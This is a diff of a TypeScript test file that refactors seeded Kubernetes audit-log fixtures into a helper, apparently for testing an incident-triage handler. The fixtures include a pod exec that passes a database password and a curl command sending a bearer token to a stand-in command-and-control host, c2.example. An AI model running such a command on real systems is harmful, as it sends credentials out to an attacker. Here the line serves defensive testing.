@@ -21,7 +21,7 @@ import { handleDelivery } from '../../lib/handler.js';
 import type { TriagedReport } from '../../lib/report/types.js';
 import { loadJson, notificationFixture, projectRoot, pubsubBody } from '../support/fixtures.js';
 import { runWithStandIns } from '../support/recording-shell.js';
-import { CLUSTER, LOCATION, PROJECT } from '../support/world.js';
+import { auditEntry, CLUSTER, LOCATION, PROJECT } from '../support/world.js';
 import { intendedInvocation } from './intended-argv.js';
 import { recordFigures, stringsIn } from './support.js';
 import { enrichmentsOf, FANOUT_TOPIC, freshOriginal, leastPrivilegeAudit, startHostileWorld, type HostileWorld } from './world-harness.js';
@@ -93,33 +93,17 @@ beforeAll(async () => {
   ];
   hw.world.logging.seed([...lines.map((l, i) => podLog(l, i)), podLog('', lines.length, { message: `service account ${JSON.stringify(SA_KEY)}` })]);
   hw.world.logging.seed([
-    {
-      logName: `projects/${PROJECT}/logs/cloudaudit.googleapis.com%2Factivity`,
-      resource: { type: 'k8s_cluster', labels: { project_id: PROJECT, location: LOCATION, cluster_name: CLUSTER } },
-      timestamp: at(-40),
-      severity: 'NOTICE',
-      protoPayload: {
-        serviceName: 'k8s.io',
-        methodName: 'io.k8s.core.v1.pods.exec.create',
-        resourceName: `core/v1/namespaces/${NS}/pods/${POD}/exec?command=mysql&command=--password&command=${AUDIT_PASSWORD}&command=-e&command=select%201&container=api`,
-        authenticationInfo: { principalEmail: 'mallory@example.com' },
-        requestMetadata: { callerIp: '203.0.113.99', callerSuppliedUserAgent: 'kubectl/v1.33.1' },
-      },
-    },
-    {
-      logName: `projects/${PROJECT}/logs/cloudaudit.googleapis.com%2Factivity`,
-      resource: { type: 'k8s_cluster', labels: { project_id: PROJECT, location: LOCATION, cluster_name: CLUSTER } },
-      timestamp: at(-20),
-      severity: 'NOTICE',
-      protoPayload: {
-        serviceName: 'k8s.io',
-        methodName: 'io.k8s.core.v1.pods.exec.create',
-        resourceName: `core/v1/namespaces/${NS}/pods/${POD}/exec`,
-        authenticationInfo: { principalEmail: 'mallory@example.com' },
-        requestMetadata: { callerIp: '203.0.113.99', callerSuppliedUserAgent: 'kubectl/v1.33.1' },
-        request: { command: ['curl', '-H', `Authorization: Bearer ${AUDIT_TOKEN}`, 'https://c2.example/'] },
-      },
-    },
+    auditEntry(
+      at(-40),
+      'io.k8s.core.v1.pods.exec.create',
+      `core/v1/namespaces/${NS}/pods/${POD}/exec?command=mysql&command=--password&command=${AUDIT_PASSWORD}&command=-e&command=select%201&container=api`,
+      'mallory@example.com',
+      '203.0.113.99',
+      'kubectl/v1.33.1',
+    ),
+    auditEntry(at(-20), 'io.k8s.core.v1.pods.exec.create', `core/v1/namespaces/${NS}/pods/${POD}/exec`, 'mallory@example.com', '203.0.113.99', 'kubectl/v1.33.1', {
+      command: ['curl', '-H', `Authorization: Bearer ${AUDIT_TOKEN}`, 'https://c2.example/'],
+    }),
   ]);
 }, 60_000);
 
